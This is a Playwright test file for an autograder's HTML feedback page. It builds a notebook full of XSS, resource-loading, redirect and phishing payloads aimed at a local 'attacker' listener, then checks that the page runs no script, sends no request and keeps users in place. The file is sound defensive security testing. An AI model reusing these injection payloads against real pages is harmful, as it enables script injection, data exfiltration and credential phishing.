"""The feedback page of a hostile notebook, as a student's browser sees it."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from playwright.sync_api import Browser, Error, Page, Request

from autograder.feedback_page import page
from autograder.verdict import Part, Verdict
from tests.test_feedback import MARKDOWN, OUTPUTS, PIXEL, SVG, data, marks, shown, submission

pytestmark = pytest.mark.browser

TABLE = "<style>td { border: 1px solid gray; padding: 0.3em }</style><table><tr><td>patients<td>569</table>"


class Listener(ThreadingHTTPServer):
    """An attacker's server, which notes whatever asks it for something."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.asked: list[str] = []


class Answer(BaseHTTPRequestHandler):
    """Notes the request and answers with a page."""

    server: Listener

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"<title>the attacker's</title>")

    do_POST = do_GET  # noqa: N815

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Say nothing."""


@pytest.fixture(scope="module")
def attacker() -> Iterator[Listener]:
    """A server that nothing should ever ask."""
    server = Listener()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


def hostile(address: str) -> NotebookNode:
    """Return a notebook that tries to script, load, restyle, redirect and phish."""
    script = f"window.top.marked = window.marked = 1; document.title = 'taken'; alert(1); fetch('{address}/script')"
    tags = f"""
        <script>{script}</script><script src="{address}/src.js"></script><img src="{address}/a.png" onerror="{script}">
        <body onload="{script}"><svg onload="{script}"><image href="{address}/b.png"/></svg>
        <link rel="stylesheet" href="{address}/c.css"><link rel="icon" href="{address}/icon"><style>
        @import "{address}/d.css"; @font-face {{ font-family: f; src: url({address}/e.woff) }}
        * {{ font-family: f; background: url({address}/f.png) }} :root {{ visibility: hidden }}</style>
        <meta http-equiv="refresh" content="0;url={address}/g"><base href="{address}/h/"><iframe src="{address}/i"></iframe>
        <object data="{address}/j"></object><embed src="{address}/k"><video src="{address}/l" poster="{address}/m"></video>
        <iframe srcdoc="<script>{script.replace("'", "&#39;")}</script>"></iframe>
        <iframe src="data:text/html,<h1>phish</h1>"></iframe>"""
    way_out = f"""<a id="self" href="{address}/n">in the frame</a><a id="top" target="_top" href="{address}/o">above</a>
        <a id="blank" target="_blank" href="{address}/p">in a window</a><form action="{address}/q" method="post">
        <input name="password"><button id="submit">Log in</button></form>"""
    return submission(
        new_markdown_cell(tags),
        *(new_markdown_cell(text) for text in MARKDOWN),
        new_markdown_cell(
            "| a table | of many | columns | that is | very wide |\n|-|-|-|-|-|\n" + "| unbreakablewords " * 5
        ),
        new_markdown_cell(
            "###### Deep\n\n| | empty |\n|-|-|\n| x | y |\n\n[](https://example.org) ![](https://example.org/x)"
        ),
        new_code_cell("x = '" + "long " * 60 + "unbroken" * 60 + "'"),
        shown(data(text_html=tags), data(text_html=way_out), data(text_html=TABLE)),
        shown(data(**{"image/svg+xml": SVG.format(f"<script>{script}</script><image href='{address}/r.png'/>")})),
        shown(data(image_png=PIXEL), new_output("stream", name="stdout", text="columns " * 40)),
        *(shown(output) for output in OUTPUTS),
        sensitivity=Verdict((Part("a worked example", 1, False, tags), Part("another", 2, False, "x", hidden=True))),
    )


@pytest.fixture(scope="module")
def file(attacker: Listener, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of the hostile notebook, as a student opens it."""
    notebook = hostile(f"http://127.0.0.1:{attacker.server_port}")
    notebook.metadata["notes"] = ["Cell 4 used more than 2 GB of memory and was stopped."]
    path = tmp_path_factory.mktemp("feedback") / "first.html"
    path.write_text(page(notebook, marks(comments={"trust": "Whose patients?"}, penalty=1)), encoding="utf-8")
    return path


def opened(browser: Browser, file: Path, *, scheme: str = "light", width: int = 1280) -> Page:
    """Open the page at a width and in a colour scheme."""
    tab = browser.new_page(viewport={"width": width, "height": 844}, color_scheme=scheme)  # type: ignore[arg-type]
    tab.goto(file.as_uri(), wait_until="networkidle")
    return tab


def test_a_hostile_notebook_does_nothing_and_asks_for_nothing(browser: Browser, file: Path, attacker: Listener) -> None:
    tab = browser.new_page()
    happened: list[str] = []
    tab.on("dialog", lambda dialog: happened.append(f"dialog {dialog.message}"))
    tab.on("pageerror", lambda error: happened.append(f"script {error}"))
    tab.on("popup", lambda other: happened.append(f"popup {other.url}"))
    tab.on("download", lambda one: happened.append(f"download {one.url}"))
    requests: list[Request] = []
    tab.on("request", lambda one: requests.append(one))
    tab.goto(file.as_uri(), wait_until="networkidle")
    tab.wait_for_timeout(500)
    assert happened == []
    outside = [one for one in requests if not one.url.startswith((file.as_uri(), "data:"))]
    # Chromium's words for what it refused before it was sent: by a policy, or a local file asked for by a frame
    assert [(one.url, one.failure) for one in outside if one.failure not in ("csp", "other")] == []
    assert attacker.asked == []
    assert tab.url == file.as_uri()
    assert tab.title() == "Feedback on A tiny lab, student kari"
    assert tab.evaluate("window.marked") is None
    assert tab.evaluate("document.scripts.length") == 0
    assert tab.get_by_text("Your notebook, as it ran").is_visible()
    tab.close()


@pytest.mark.parametrize("way", ["self", "top", "blank", "submit"])
def test_no_way_leads_out_of_a_frame(browser: Browser, file: Path, attacker: Listener, way: str) -> None:
    tab = opened(browser, file)
    place = next(frame for frame in tab.frames if frame.locator("#submit").count())
    try:
        place.locator(f"#{way}").click(timeout=5000)
    except Error as error:
        pytest.fail(f"the test could not try the way out: {error.message}")
    tab.wait_for_timeout(500)
    assert attacker.asked == []
    assert tab.url == file.as_uri()
    assert len(tab.context.pages) == 1
    tab.close()


def test_a_frame_shows_the_table_of_an_honest_cell(browser: Browser, file: Path) -> None:
    tab = opened(browser, file)
    (cell,) = (
        frame.locator("td", has_text="569") for frame in tab.frames if frame.locator("td", has_text="569").count()
    )
    assert cell.is_visible()
    assert cell.evaluate("cell => getComputedStyle(cell).borderTopStyle") == "solid"
    tab.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 1280])
def test_the_page_is_accessible(browser: Browser, file: Path, scheme: str, width: int) -> None:
    tab = opened(browser, file, scheme=scheme, width=width)
    found = [
        " ".join(f"{violation['id']}: {node['html'][:200]} {node['failureSummary'][:200]}".split())
        for violation in Axe().run(tab).response["violations"]
        for node in violation["nodes"]
    ]
    assert found == []
    tab.close()


@pytest.mark.parametrize("width", [320, 390, 1920])
def test_the_page_is_no_wider_than_the_window(browser: Browser, file: Path, width: int) -> None:
    tab = opened(browser, file, width=width)
    assert tab.evaluate("document.documentElement.scrollWidth") <= width
    tab.close()


def test_the_keyboard_shows_where_it_is(browser: Browser, file: Path) -> None:
    tab = opened(browser, file)
    tab.keyboard.press("Tab")
    assert tab.evaluate("document.activeElement.textContent") == "Exercise 1: sensitivity"
    assert tab.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    tab.keyboard.press("Enter")
    assert tab.url.endswith("#exercise-sensitivity")
    tab.close()
